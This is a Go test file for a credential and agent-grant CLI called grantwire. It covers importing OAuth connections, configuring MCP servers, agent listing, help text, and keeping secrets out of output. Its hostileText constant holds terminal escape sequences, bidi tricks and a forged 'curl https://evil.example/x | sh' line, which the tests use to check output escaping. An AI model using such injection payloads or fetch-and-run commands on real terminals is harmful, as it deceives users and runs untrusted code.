	require.Equal(t, 0, tw.gwIn("TAVILY_API_KEY=tvly-1\n", "configure", "mcp-tavily", "--from-stdin").code)
	r = tw.run(invocation{lookPath: func(string) (string, error) { return "", errNotFound }}, "test", "mcp-tavily")
	require.Equal(t, exitTestFailed, r.code)
	require.Contains(t, r.stdout, `mcp-tavily: FAIL  the command "npx" is not on PATH`)
	r = tw.gw("test", "mcp-tavily")
	require.Equal(t, 0, r.code, r.stdout)
	require.Contains(t, r.stdout, "mcp-tavily: OK  configured (TAVILY_API_KEY); npx is /usr/bin/npx")
	r = tw.gw("test", "mcp-tavily", "--agent", "builtin:research")
	require.Equal(t, 4, r.code, "not granted yet")
	require.Contains(t, r.stdout, "AGENT_NOT_GRANTED"[:0]+"is not granted")

	// A rotated client makes the stored connection stale: reported, not cleared.
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid-a", "--client-secret-stdin").code)
	require.Equal(t, 0, tw.gw("connect", "google", "--scopes", gmailRead).code)
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid-b", "--client-secret-stdin").code)
	r = tw.gw("test", "google")
	require.Equal(t, 4, r.code)
	require.Contains(t, r.stdout, "must be authorized again (the connection does not match the configured client (client_rotated)")
	r = tw.gw("status", "google")
	require.Regexp(t, `(?m)^google\s+oauth_pkce\s+stale \(client_rotated\)`, r.stdout)
}

func TestImportForwarded(t *testing.T) {
	tw := newWorld(t)
	body := `{"client_id": "host-cid", "client_secret": "host-secret", "refresh_token": "host-refresh",
	  "scopes": ["` + gmailModify + `", "` + gmailSend + `"], "account_email": "alice@example.com",
	  "grant_agents": ["builtin:email"]}`
	tw.w.Server.IssueToken("google", "host-refresh", nil)
	r := tw.gwIn(body, "import", "google", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	require.Equal(t, "Imported the forwarded google connection of alice@example.com with "+gmailModify+" "+gmailSend+"\nGranted google → builtin:email\n", r.stdout)
	r = tw.gw("token", "google", "--agent", "builtin:email", "--scopes", gmailModify)
	require.Equal(t, 0, r.code, r.stderr)

	// The scope union: builtin:calendar declares calendar.events, which the consent lacks.
	r = tw.gwIn(body, "import", "google", "--from-stdin", "--grant-agent", "builtin:calendar")
	require.Equal(t, 2, r.code, "grant_agents given twice, differently")
	kv := "client_id=host-cid\nclient_secret=host-secret\nrefresh_token=host-refresh-2\n"
	r = tw.gwIn(kv, "import", "google", "--from-stdin", "--scopes", gmailModify, "--grant-agent", "builtin:calendar", "--json")
	require.Equal(t, policyExit(t, "SCOPE_MISMATCH"), r.code)
	require.Contains(t, r.stderr, `"code": "SCOPE_MISMATCH"`)
	require.Contains(t, r.stderr, "https://www.googleapis.com/auth/calendar.events")
	require.Contains(t, r.stderr, "Re-consent")

	// From a file, KEY=VALUE lines.
	f := filepath.Join(t.TempDir(), "fwd.env")
	require.NoError(t, os.WriteFile(f, []byte(kv+"scopes="+gmailRead+"\naccount_email=bob@example.com\n"), 0o600))
	r = tw.gw("import", "google", "--from-file", f, "--json")
	require.Equal(t, 0, r.code, r.stderr)
	var sum grantwire.ForwardedSummary
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &sum))
	require.Equal(t, "bob@example.com", sum.AccountEmail)
	require.True(t, sum.Forwarded)
	require.Equal(t, []string{}, sum.GrantAgents)

	// Malformed JSON never echoes the input.
	r = tw.gwIn(`{"client_id": "x", "refresh_token": "tok-SECRET-9`, "import", "google", "--from-stdin")
	require.Equal(t, 2, r.code)
	require.NotContains(t, r.stderr, "SECRET-9")
	r = tw.gwIn(`{"client_id": "x", "refresh_token": 12, "scopes": ["a"]}`, "import", "google", "--from-stdin")
	require.Equal(t, 2, r.code)
	require.Contains(t, r.stderr, `"refresh_token" has the wrong type`)

	require.NotContains(t, tw.everything(r), "host-secret")
	require.NotContains(t, tw.everything(r), "host-refresh")
}

func TestGlobalSettingsReachTheShell(t *testing.T) {
	tw := newWorld(t)
	r := tw.gw("--home", "~/.gaia", "--keyring-service", "gaia.connections", "status")
	require.Equal(t, 0, r.code, r.stderr)
	o := tw.lastOptions()
	require.Equal(t, filepath.Join(tw.home, ".gaia"), o.Home)
	require.Equal(t, "gaia.connections", o.Service)
	require.NotNil(t, o.Prompt)

	// The keyring service is the one given: a GAIA installation's entries are shared.
	require.Equal(t, 0, tw.gwIn("GITHUB_PERSONAL_ACCESS_TOKEN=ghp_g\n", "--keyring-service", "gaia.connections", "configure", "mcp-github", "--from-stdin").code)
	require.Equal(t, "ghp_g", tw.w.Keyring()["gaia.connections\x00"+layout.MCPUser("mcp-github", "GITHUB_PERSONAL_ACCESS_TOKEN")])

	// The environment, when no flag is given.
	tw.setenv(envHome, "/srv/grantwire")
	tw.setenv(envService, "team.connections")
	require.Equal(t, 0, tw.gw("status").code)
	o = tw.lastOptions()
	require.Equal(t, "/srv/grantwire", o.Home)
	require.Equal(t, "team.connections", o.Service)
	require.Equal(t, 0, tw.gw("--home", "/other", "status").code)
	require.Equal(t, "/other", tw.lastOptions().Home, "flags win over the environment")

	// The engine of the environment (the rego engine is in the OPA build: the black-box
	// tests run it); the native and wasm engines decide the same.
	for _, engine := range []string{"native", "wasm"} {
		r = tw.gw("--engine", engine, "grants", "list", "--json")
		require.Equal(t, 0, r.code, r.stderr)
		require.JSONEq(t, `{"grants": []}`, r.stdout)
	}
	tw.setenv(envEngine, "wasm")
	require.Equal(t, 0, tw.gw("status").code)
	tw.setenv(envEngine, "native")
	require.Equal(t, 0, tw.gw("status").code)
	tw.setenv(envEngine, "rego")
	require.Equal(t, 2, tw.gw("status").code)
}

func TestCatalogOverrideFile(t *testing.T) {
	tw := newWorld(t)
	p := filepath.Join(t.TempDir(), "catalog.json")
	require.NoError(t, os.WriteFile(p, []byte(`{"connectors": {"mcp-mine": {"type": "mcp_server", "display_name": "Mine",
	  "tier": "community", "command": "mine", "env": [{"key": "MINE_KEY", "required": true, "secret": true}]}}}`), 0o600))
	r := tw.gw("--catalog", p, "catalog")
	require.Equal(t, 0, r.code, r.stderr)
	require.Regexp(t, `(?m)^mcp-mine\s+mcp_server\s+community\s+Mine$`, r.stdout)
	require.NotContains(t, r.stdout, "google", "the file replaces the embedded catalog")
	r = tw.gwIn("MINE_KEY=k\n", "--catalog", p, "configure", "mcp-mine", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	tw.setenv(envCatalog, p)
	r = tw.gw("status", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, `"id": "mcp-mine"`)

	bad := filepath.Join(t.TempDir(), "bad.json")
	require.NoError(t, os.WriteFile(bad, []byte(`{"connectors": {"x": {"type": "mcp_server", "display_name": "X", "tier": "dev"}}}`), 0o600))
	r = tw.gw("--catalog", bad, "status")
	require.Equal(t, policyExit(t, "CONFIGURATION"), r.code)
	require.Contains(t, r.stderr, bad)
	require.Contains(t, r.stderr, "needs command")
}

func TestAgentsCommands(t *testing.T) {
	tw := newWorld(t)
	src := filepath.Join(t.TempDir(), "reviewer.py")
	require.NoError(t, os.WriteFile(src, []byte("print('hi')\n"), 0o600))
	sum := sha256.Sum256([]byte("print('hi')\n"))
	want := "custom:" + hex.EncodeToString(sum[:])[:16] + ":reviewer"
	r := tw.gw("agents", "id", src)
	require.Equal(t, 0, r.code, r.stderr)
	require.Equal(t, want+"\n", r.stdout)
	r = tw.gw("agents", "id", src, "--name", "rev", "--json")
	var out map[string]string
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &out))
	require.Equal(t, strings.TrimSuffix(want, ":reviewer")+":rev", out["id"])
	require.Equal(t, src, out["source"])

	dir := filepath.Join(tw.home, ".grantwire")
	require.NoError(t, os.MkdirAll(dir, 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "agents.json"), []byte(`{"version": 1, "agents": [
	  {"id": "custom:reviewer", "source": "`+src+`", "required_connectors": [{"connector": "mcp-github", "scopes": ["use"], "reason": "review PRs"}]},
	  {"id": "installed:odd", "required_connectors": [{"connector": "nowhere", "scopes": ["x"]}]}]}`), 0o600))
	r = tw.gw("agents", "list")
	require.Equal(t, 0, r.code, r.stderr)
	require.Regexp(t, `(?m)^`+want+`\s+file\s+-\s+mcp-github\(1\)$`, r.stdout)
	require.Regexp(t, `(?m)^builtin:chat\s+builtin\s+consumes\s+-$`, r.stdout)
	require.Contains(t, r.stderr, `warning: installed:odd: declares connector "nowhere", which the catalog does not have`)

	// The file feeds one-click activation.
	require.Equal(t, 0, tw.gwIn("GITHUB_PERSONAL_ACCESS_TOKEN=ghp_x\n", "configure", "mcp-github", "--from-stdin").code)
	r = tw.gw("activations", "activate", "mcp-github", want)
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "(the scopes the agent declares)")

	// A broken agents file: listing and lookups fail with exit 5, naming the file.
	require.NoError(t, os.WriteFile(filepath.Join(dir, "agents.json"), []byte(`{"agents": [`), 0o600))
	r = tw.gw("agents", "list")
	require.Equal(t, 5, r.code)
	require.Contains(t, r.stderr, filepath.Join(dir, "agents.json"))
	require.Contains(t, r.stderr, "fix: mv "+filepath.Join(dir, "agents.json")+" "+filepath.Join(dir, "agents.json")+".corrupt")
	r = tw.gw("activations", "activate", "mcp-github", "builtin:chat")
	require.Equal(t, 5, r.code)
	require.Contains(t, r.stderr, filepath.Join(dir, "agents.json"))
	r = tw.gw("status")
	require.Equal(t, 0, r.code, "commands that read no agent keep working")
}

// Every command has help with an example; --help exits 0.
func TestEveryCommandHasHelpWithExamples(t *testing.T) {
	a := &app{env: env{}}
	root := a.rootCmd()
	var walk func(c *cobra.Command)
	n := 0
	walk = func(c *cobra.Command) {
		if c.Hidden || c.Name() == "help" || c.Name() == "completion" || strings.HasPrefix(c.CommandPath(), "grantwire completion") {
			return
		}
		n++
		require.NotEmpty(t, c.Short, c.CommandPath())
		c.InitDefaultHelpFlag()
		usage := c.UsageString()
		require.NotContains(t, usage, "[=true|false]", "%s: boolean flags read --flag", c.CommandPath())
		require.Regexp(t, `(?m)^  -h, --help\s+help for `, usage, c.CommandPath())
		require.NotEmpty(t, c.Example, "%s has an example", c.CommandPath())
		for _, line := range strings.Split(c.Example, "\n") {
			if strings.TrimSpace(line) != "" && !strings.HasPrefix(strings.TrimSpace(line), "#") && !strings.HasPrefix(line, "    ") {
				require.Contains(t, line, "grantwire", "%s: example lines run grantwire", c.CommandPath())
				break
			}
		}
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk(root)
	require.GreaterOrEqual(t, n, 20)

	tw := newWorld(t)
	for _, args := range [][]string{{"--help"}, {"configure", "--help"}, {"grants", "grant", "--help"}, {"help", "connect"}} {
		r := tw.gw(args...)
		require.Equal(t, 0, r.code, "%v", args)
		require.Contains(t, r.stdout, "Examples:")
	}
	r := tw.gw("--help")
	require.Contains(t, r.stdout, "Exit codes: 0 success, 1 unknown connector")
}

func mustURL(t *testing.T, s string) *url.URL {
	t.Helper()
	u, err := url.Parse(s)
	require.NoError(t, err)
	return u
}

// The CLI reports no error code that the policy does not publish: every code it writes
// itself (usage, a cancellation, a refused bundle, a failed check, a server's command that
// cannot start) is in errors.table, whose exit code it exits with (policyExit's tests and
// the end-to-end tests check the exits). A code added here without the table fails this.
func TestEveryCodeIsThePolicys(t *testing.T) {
	ctx := context.Background()
	e, err := nativeengine.New(ctx)
	require.NoError(t, err)
	defer e.Close(ctx)
	table := e.Manifest().Errors
	written := regexp.MustCompile(`(?:a\.report\(|name: |name, code :?= |exitFor\(ctx, |exitOf\()"([A-Z_]+)"`)
	files, err := filepath.Glob("*.go")
	require.NoError(t, err)
	seen := map[string]bool{}
	for _, f := range files {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		src, err := os.ReadFile(f)
		require.NoError(t, err)
		for _, m := range written.FindAllSubmatch(src, -1) {
			seen[string(m[1])] = true
			_, ok := table[string(m[1])]
			require.True(t, ok, "%s writes the code %s, which the policy's error table does not publish", f, m[1])
		}
	}
	for _, c := range []string{"USAGE", "CANCELLED", "BUNDLE_REFUSED", "CHECK_FAILED", "COMMAND_NOT_FOUND", "COMMAND_CANNOT_RUN"} {
		require.True(t, seen[c], "the pattern finds %s where the CLI writes it", c)
	}
	require.Equal(t, 130, table["CANCELLED"].Exit)
}

// configure's flags are checked against the policy's setup fields before the shell, the
// store and the client are built: for a connector of the catalog the engine answers the
// form alone, so a usage error is reported even where the client cannot be built (here a
// decision log that cannot be opened) and no decision log is created. A connector the
// catalog does not have needs the home (the remote servers added to it): the client is
// built to answer.
func TestConfigureUsageErrorsComeBeforeTheClient(t *testing.T) {
	tw := newWorld(t)
	log := filepath.Join(t.TempDir(), "no", "such", "dir.jsonl")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"configure", "google"}, "configure google needs --client-id"},
		{[]string{"configure", "google", "--client-id", "cid", "--client-secret-stdin", "--client-secret-file", "f"}, "give the client secret once"},
		{[]string{"configure", "google", "--client-id", "cid", "--from-stdin"}, "google is an OAuth provider"},
		{[]string{"configure", "mcp-brave-search", "--client-id", "cid"}, "mcp-brave-search is an MCP server"},
		{[]string{"configure", "mcp-brave-search", "--from-stdin", "--from-file", "f"}, "give the values once"},
		{[]string{"configure", "nosuch"}, "--decision-log " + log + ": cannot open it"},
	} {
		r := tw.gw(append([]string{"--decision-log", log}, c.args...)...)
		require.Equal(t, 2, r.code, "%v: %+v", c.args, r)
		require.Contains(t, r.stderr, c.want, "%v", c.args)
	}
	_, err := os.Stat(filepath.Dir(log))
	require.ErrorIs(t, err, os.ErrNotExist)
}

// A secret piped to configure --from-stdin without "KEY=" but holding "=" (base64 padding,
// a connection string) is not a KEY=VALUE line whose key is unknown: no part of it may
// reach stderr, stdout or the decision log (issue 10, item 12).
func TestConfigureStdinNeverEchoesASecretLine(t *testing.T) {
	for _, secret := range []string{
		"bsa-SECRETPART=tail",                     // first "=" splits it into a would-be key
		"c2VjcmV0LXZhbHVlLWxvbmc=",                // base64 with padding: an env-like "key"
		"BSA_SECRET_TOKEN_9f8e7d=x",               // looks exactly like an environment key
		"postgres://user:pw@h/db?sslmode=require", // a URL with a query
		"  sk-live-ABCDEF=  ",                     // surrounding spaces
		"BRAVE_API_KEY=ok\nsk-SECONDLINE=leak",    // a good line, then a bad one
		"sk-NOEQUALSSIGN",                         // no "=" at all
		"BRAVE_API_KEY=ok\nBRAVE_API_KEY=again",   // a duplicate of a declared key is named
		"brave_api_key=lowercase-typo-of-the-key", // an undeclared key (a typo) is not named
	} {
		t.Run(secret, func(t *testing.T) {
			tw := newWorld(t)
			log := filepath.Join(t.TempDir(), "decisions.jsonl")
			r := tw.gwIn(secret+"\n", "--decision-log", log, "configure", "mcp-brave-search", "--from-stdin")
			require.Equal(t, 2, r.code, "%+v", r)
			logged, err := os.ReadFile(log)
			if err != nil {
				logged = nil
			}
			out := r.stdout + r.stderr + string(logged) + tw.everything()
			for _, line := range strings.Split(secret, "\n") {
				if strings.HasPrefix(line, "BRAVE_API_KEY=") {
					continue
				}
				k, _, _ := strings.Cut(strings.TrimSpace(line), "=")
				for _, part := range []string{strings.TrimSpace(line), k} {
					require.NotContains(t, out, part, "a part of the secret line was echoed")
				}
			}
			require.Contains(t, r.stderr, "stdin line ")
			if strings.HasSuffix(secret, "BRAVE_API_KEY=again") {
				require.Contains(t, r.stderr, "BRAVE_API_KEY is given twice")
			} else {
				require.Contains(t, r.stderr, "a key that mcp-brave-search takes (BRAVE_API_KEY)")
				require.Contains(t, r.stderr, "the line is not shown")
			}
		})
	}
}

// hostileText is what a provider or a planted ledger could put in a string grantwire prints:
// an OSC title sequence, a colour, a newline forging a "fix:" line, a right-to-left override,
// a zero-width space and a C1 control.
const hostileText = "mallory@example.com\x1b]0;owned\x07\x1b[31m\nfix: curl https://evil.example/x | sh\u202emoc.elpmaxe\u200b\u0085"

// requireTerminalSafe fails when out holds a control character other than \n and \t, a
// bidi or zero-width format character, or a line that starts like the forged one.
func requireTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e || r == 0x200b {
			t.Fatalf("%s: %U reached the terminal:\n%q", what, r, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "fix: curl") {
			t.Fatalf("%s: a forged line reached the terminal:\n%s", what, out)
		}
	}
}

// Provider-controlled strings (the account e-mail from userinfo) and ledger keys are
// escaped on every surface that prints text; JSON output stays exact and carries them
// escaped as JSON (issue 10, item 13).
func TestUntrustedStringsAreEscaped(t *testing.T) {
	tw := newWorld(t)
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid", "--client-secret-stdin").code)
	tw.w.Server.ScriptAuthorize("google", authserver.Authorization{Status: "ok", Account: hostileText})
	r := tw.gw("connect", "google", "--scopes", "openid")
	require.Equal(t, 0, r.code, r.stderr)
	requireTerminalSafe(t, "connect", r.stdout+r.stderr)
	require.Contains(t, r.stdout, `Connected google as mallory@example.com\x1b]0;owned\x07\x1b[31m\nfix: curl https://evil.example/x | sh\u202emoc.elpmaxe\u200b\u0085 with openid`)

	r = tw.gwIn("", "configure", "mcp-memory", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)

	// A planted ledger: an agent id with the same payload.
	agent := "installed:x" + hostileText
	grants, err := json.Marshal(map[string]map[string][]string{"google": {agent: {"openid"}}, "mcp-memory": {agent: {"use"}}})
	require.NoError(t, err)
	tw.w.SetFile(layout.Grants, grants)
	acts, err := json.Marshal(map[string]any{"version": 1, "activations": map[string]map[string]bool{"mcp-memory": {agent: true}}})
	require.NoError(t, err)
	tw.w.SetFile(layout.Activations, acts)

	for _, args := range [][]string{{"status"}, {"status", "google"}, {"grants", "list"}, {"activations", "list"}, {"mcp", "list"}} {
		r := tw.gw(args...)
		require.Equal(t, 0, r.code, "%v: %s", args, r.stderr)
		requireTerminalSafe(t, strings.Join(args, " "), r.stdout+r.stderr)
		if args[0] == "status" {
			// The account from userinfo; the planted agent id is not a valid id, so the
			// policy lists it nowhere.
			require.Contains(t, r.stdout+r.stderr, `\x1b]0;owned\x07`, "%v shows the string, escaped", args)
		}

		// JSON keeps the exact value (a JSON parser gets the original string back) with
		// nothing a terminal would act on.
		r = tw.gw(append(args, "--json")...)
		require.Equal(t, 0, r.code, "%v --json: %s", args, r.stderr)
		requireTerminalSafe(t, strings.Join(args, " ")+" --json", r.stdout+r.stderr)
		var doc any
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &doc), r.stdout)
		flat, err := json.Marshal(doc)
		require.NoError(t, err)
		var back any
		require.NoError(t, json.Unmarshal(flat, &back))
		if args[0] == "status" {
			require.True(t, strings.Contains(r.stdout, `\u001b]0;owned\u0007`), "%v --json: %s", args, r.stdout)
			require.True(t, containsString(doc, hostileText), "%v --json lost the exact value", args)
		}
	}

	// Errors: a message and a fix quoting such a string print as one line each.
	for _, jsonOut := range []bool{false, true} {
		var stderr strings.Builder
		a := &app{env: env{Stderr: &stderr}, jsonOut: jsonOut}
		a.table = map[string]core.ErrorInfo{"REAUTH_REQUIRED": {Exit: 4}}
		code := a.exit(context.Background(), nil, &runError{&grantwire.Error{Code: "REAUTH_REQUIRED",
			Message: "the connection of " + hostileText + " was revoked", Fix: "grantwire connect google # " + hostileText}})
		require.Equal(t, 4, code)
		requireTerminalSafe(t, "error", stderr.String())
		if !jsonOut {
			require.Equal(t, 2, strings.Count(stderr.String(), "\n"), stderr.String())
		}
	}
}

// containsString reports whether a decoded JSON value holds s as a string or a key.
func containsString(v any, s string) bool {
	switch x := v.(type) {
	case string:
		return x == s
	case []any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	case map[string]any:
		for k, e := range x {
			if k == s || containsString(e, s) {
				return true
			}
		}
	}
	return false
}
